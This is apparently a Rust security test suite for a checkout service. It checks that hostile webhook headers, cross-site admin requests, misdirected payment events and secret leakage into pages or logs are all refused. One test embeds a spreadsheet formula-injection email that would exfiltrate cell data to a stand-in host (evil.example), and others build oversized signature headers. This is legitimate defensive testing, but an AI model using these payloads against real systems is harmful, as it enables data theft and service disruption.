//! The security review, as tests: each hostile request is refused, cheaply, and changes nothing.

use crate::admin::{admin_app, csv, signed_in, ADMIN_CALLS};
use crate::helpers::{
    order_status, place_order, spawn_app, spawn_server_with, Visitor, MUG, TEA_TIN,
};
use crate::webhooks::{deliver, now, order, pi_event, processed_events, send};
use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use std::time::Instant;

/// A header of thousands of bogus `v1` entries over a large body once took 10.7 s (debug) to
/// refuse: a MAC per entry. Now it is refused before any MAC is computed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_webhook_headers_are_refused_at_the_cost_of_reading_them() {
    let app = spawn_app().await;
    let body = vec![b'x'; 200 * 1024];
    let headers = [
        format!("t={}{}", now(), ",v1=".repeat(1_000)),
        format!(
            "t={}{}",
            now(),
            format!(",v1={}", "0".repeat(64)).repeat(20_000)
        ),
        format!("t={}{}", now(), ",v1=zz".repeat(20_000)),
        format!("t=1,v1={}", "0".repeat(64)),
    ];
    for header in &headers {
        let started = Instant::now();
        assert_eq!(deliver(&app, &body, header).await, StatusCode::BAD_REQUEST);
        let took = started.elapsed();
        eprintln!(
            "hostile header of {} bytes refused in {took:?}",
            header.len()
        );
        // Generous: the point is that it no longer grows with the entries (it took seconds).
        assert!(took.as_millis() < 1_000, "{took:?}");
    }
    assert_eq!(processed_events(&app).await, 0);
}

/// A live-mode event sent to a test-mode shop (or the reverse) is refused and changes nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn events_of_the_other_mode_are_refused() {
    let app = spawn_app().await;
    let (order_id, amount) = order(&app, "pi_live").await;
    let mut event = pi_event(
        "evt_live",
        "payment_intent.succeeded",
        "pi_live",
        amount,
        now(),
    );
    event["livemode"] = true.into();
    assert_eq!(send(&app, &event).await, StatusCode::BAD_REQUEST);
    assert_eq!(order_status(&app, &order_id).await, "pending");
    assert_eq!(processed_events(&app).await, 0);
}

/// An event whose metadata names an order of another PaymentIntent does not touch that order.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metadata_cannot_point_an_event_at_another_payment_intents_order() {
    let app = spawn_app().await;
    let (victim, amount) = order(&app, "pi_victim").await;
    let mut event = pi_event(
        "evt_other",
        "payment_intent.succeeded",
        "pi_attacker",
        amount,
        now(),
    );
    event["data"]["object"]["metadata"]["order_id"] = victim.clone().into();
    assert_eq!(send(&app, &event).await, StatusCode::OK);
    assert_eq!(order_status(&app, &victim).await, "pending");
}

/// No admin server function answers without a signed-in session; cross-site posts and posts
/// with neither `Origin` nor `Sec-Fetch-Site` are refused before they reach one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn admin_functions_need_a_session_and_a_same_origin_request() {
    let app = admin_app().await;
    for (endpoint, form) in ADMIN_CALLS {
        let reply = Visitor::new().call(&app, endpoint, form).await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{endpoint}");
    }
    for headers in [
        vec![],
        vec![("origin", "https://evil.example")],
        vec![("sec-fetch-site", "cross-site")],
        vec![("origin", "null"), ("sec-fetch-site", "same-origin")],
    ] {
        let mut request = Request::post("/api/admin/sign-in")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
        for (k, v) in &headers {
            request = request.header(*k, *v);
        }
        let reply = app
            .send(request.body(Body::from("password=x")).unwrap())
            .await;
        assert_eq!(reply.status, StatusCode::FORBIDDEN, "{headers:?}");
    }
}

/// An email that is a spreadsheet formula reaches the CSV export as text.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_cells_never_run_as_formulas() {
    let app = admin_app().await;
    let email = r#"=HYPERLINK("http://evil.example/?"&A2&"@a.b")@evil.example"#;
    place_order(&app, "ord_formula", "cart_formula", email, TEA_TIN, 1, None).await;
    let merchant = signed_in(&app).await;
    let export = csv(&app, &merchant, "").await;
    assert_eq!(export.status, StatusCode::OK);
    let row = export
        .body
        .lines()
        .find(|l| l.starts_with("ord_formula"))
        .unwrap();
    assert!(row.contains(r#","'=HYPERLINK("#), "{row}");
    for cell in row.split(',') {
        assert!(
            !cell
                .trim_start_matches('"')
                .starts_with(['=', '+', '-', '@']),
            "{row}"
        );
    }
}

/// Pages carry no secret: not the Stripe secret key, not a webhook secret, not another
/// shopper's client secret, not the session id.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_secret_reaches_a_page() {
    let (app, _base) = spawn_server_with(&[]).await;
    let other = Visitor::new();
    other
        .add_to_cart(&app, &crate::helpers::product(&app, MUG).await, 1)
        .await;
    // Their Pay came back asking for 3-D Secure: their browser holds a client secret.
    let theirs = other.checkout(&app, "other@example.com").await;
    let asked = other
        .pay_with(
            &app,
            &theirs,
            theirs.revision,
            "pm_card_authenticationRequired",
        )
        .await
        .json();
    let their_secret = asked["Authenticate"]["client_secret"]
        .as_str()
        .unwrap()
        .to_string();
    let shopper = Visitor::new();
    let sk = app.state.payments.secret_key.expose().to_string();
    let whsec = app.state.payments.webhook_secrets[0].expose().to_string();
    for path in [
        "/",
        "/products/stoneware-mug",
        "/cart",
        "/checkout",
        "/admin",
    ] {
        let page = shopper.get_page(&app, path).await;
        for secret in [&sk, &whsec, &their_secret] {
            assert!(
                !page.body.contains(secret.as_str()),
                "{path} shows a secret"
            );
        }
        if let Some(cookie) = shopper.cookie() {
            let id = cookie.split('=').nth(1).unwrap_or_default();
            assert!(
                id.is_empty() || !page.body.contains(id),
                "{path} shows the session id"
            );
        }
    }
    // Their order page (by its unguessable id) does not carry their client secret either.
    let page = shopper
        .get_page(&app, &format!("/orders/{}", theirs.order_id))
        .await;
    assert!(!page.body.contains(&their_secret));
}

/// The embedded simulator stands for Stripe: a shopper holding the publishable key (it is in
/// every page) cannot use it as the secret key, list other shoppers' PaymentIntents, or reach
/// the control API (off unless STRIPE_SIM_CONTROL=1, which only the tests set).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shoppers_cannot_reach_the_simulators_secrets_or_controls() {
    let app = spawn_app().await;
    let pk = app.state.payments.publishable_key.clone();
    let sk = app.state.payments.secret_key.expose().to_string();
    assert_ne!(
        pk.trim_start_matches("pk_test_sim"),
        sk.trim_start_matches("sk_test_sim"),
        "the secret key does not follow from the publishable key"
    );
    let with_key = |method: &str, path: &str, key: &str| {
        Request::builder()
            .method(method)
            .uri(format!("/stripe-sim{path}"))
            .header(header::AUTHORIZATION, format!("Bearer {key}"))
            .body(Body::empty())
            .unwrap()
    };
    let listed = app.send(with_key("GET", "/v1/payment_intents", &pk)).await;
    assert!(
        listed.status == StatusCode::UNAUTHORIZED || listed.status == StatusCode::FORBIDDEN,
        "{}: {}",
        listed.status,
        listed.body
    );
    for path in ["/_sim/reset", "/_sim/faults", "/_sim/clock"] {
        let control = app.send(with_key("POST", path, &sk)).await;
        assert_eq!(control.status, StatusCode::NOT_FOUND, "{path}");
    }
}

/// The real binary at `debug` log level, through a whole purchase: its log never shows the
/// simulator's secret key, the webhook secret, the shopper's client secret or session id.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_secret_reaches_the_log() {
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let dir = std::env::temp_dir().join(format!("checkout-logs-{port}"));
    std::fs::create_dir_all(&dir).unwrap();
    let db = dir.join("shop.db");
    let database = crate::helpers::database_url(&db).await;
    let base = format!("http://127.0.0.1:{port}");
    let mut server = std::process::Command::new(env!("CARGO_BIN_EXE_checkout"))
        .env_remove("STRIPE_SECRET_KEY")
        .env_remove("STRIPE_PUBLISHABLE_KEY")
        .env("CHECKOUT_ADDR", format!("127.0.0.1:{port}"))
        .env("DATABASE_URL", &database)
        .env("SIMULATOR_DATABASE_URL", format!("sqlite:{}", db.display()))
        .env("RUST_LOG", "debug")
        .env("RECONCILE_INTERVAL_SECONDS", "1")
        .current_dir(&dir)
        .stderr(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Read as it comes: a debug log outgrows a pipe's buffer, and a full pipe stops the server.
    fn drain(mut pipe: impl std::io::Read + Send + 'static) -> std::thread::JoinHandle<String> {
        std::thread::spawn(move || {
            let mut text = String::new();
            let _ = pipe.read_to_string(&mut text);
            text
        })
    }
    let stderr = drain(server.stderr.take().unwrap());
    let stdout = drain(server.stdout.take().unwrap());
    let client = reqwest::Client::new();
    let mut up = false;
    for _ in 0..100 {
        if client.get(&base).send().await.is_ok() {
            up = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    if !up {
        let _ = server.kill();
        let _ = server.wait();
        panic!(
            "the server did not start: {}{}",
            stderr.join().unwrap_or_default(),
            stdout.join().unwrap_or_default()
        );
    }
    let first = client
        .get(&base)
        .header(reqwest::header::ACCEPT, "text/html")
        .send()
        .await
        .unwrap();
    let cookie = first.headers()[reqwest::header::SET_COOKIE]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let post = |path: &str, form: &[(&str, &str)]| {
        client
            .post(format!("{base}/api/{path}"))
            .header(reqwest::header::COOKIE, &cookie)
            .header("sec-fetch-site", "same-origin")
            .form(form)
            .send()
    };
    post("cart/add", &[("product_id", "1"), ("quantity", "1")])
        .await
        .unwrap();
    let session: serde_json::Value = post(
        "checkout/start",
        &[
            ("email", "log@example.com"),
            ("name", "Log Reader"),
            ("line1", "1 Main Street"),
            ("city", "Albany"),
            ("region", "NY"),
            ("postal_code", "12207"),
            ("country", "US"),
        ],
    )
    .await
    .unwrap()
    .json()
    .await
    .unwrap();
    let pk = session["publishable_key"].as_str().unwrap().to_string();
    // Pay as the Card Element would, with 3-D Secure, so the client secret goes to the browser
    // and webhooks and the reconciler run and log.
    let asked: serde_json::Value = post(
        "checkout/pay",
        &[
            ("order_id", session["order_id"].as_str().unwrap()),
            ("revision", &session["revision"].to_string()),
            ("with", "pm_card_authenticationRequired"),
        ],
    )
    .await
    .unwrap()
    .json()
    .await
    .unwrap();
    let secret = asked["Authenticate"]["client_secret"]
        .as_str()
        .unwrap_or_else(|| panic!("{asked}"))
        .to_string();
    let pi = secret.split("_secret_").next().unwrap().to_string();
    // The challenge Stripe.js shows, completed.
    client
        .post(format!("{base}/stripe-sim/_sim/3ds/{pi}"))
        .bearer_auth(&pk)
        .form(&[("client_secret", secret.as_str()), ("outcome", "complete")])
        .send()
        .await
        .unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(2500)).await;
    server.kill().unwrap();
    server.wait().unwrap();
    let log = stderr.join().unwrap() + &stdout.join().unwrap();
    assert!(
        log.contains("webhook") || log.contains("DEBUG"),
        "the log was captured"
    );
    let pool = checkout::server::db::connect_sqlite(&format!("sqlite:{}", db.display()))
        .await
        .unwrap();
    let (sk, _) = stripe_sim::embedded_keys(&pool).await.unwrap();
    let whsec: String = sqlx::query_scalar(
        "SELECT body FROM stripe_sim_objects WHERE kind = 'webhook_endpoint' LIMIT 1",
    )
    .fetch_optional(&pool)
    .await
    .unwrap()
    .and_then(|b: String| serde_json::from_str::<serde_json::Value>(&b).ok())
    .and_then(|v| v["secret"].as_str().map(str::to_string))
    .unwrap_or_else(|| "whsec_".into());
    let session_id = cookie.split('=').nth(1).unwrap_or_default().to_string();
    for (what, value) in [
        ("secret key", sk.as_str()),
        ("webhook secret", whsec.as_str()),
        ("client secret", secret.as_str()),
        ("session id", session_id.as_str()),
    ] {
        assert!(
            !value.is_empty() && !log.contains(value),
            "the log shows the {what}"
        );
    }
    let _ = std::fs::remove_dir_all(&dir);
}
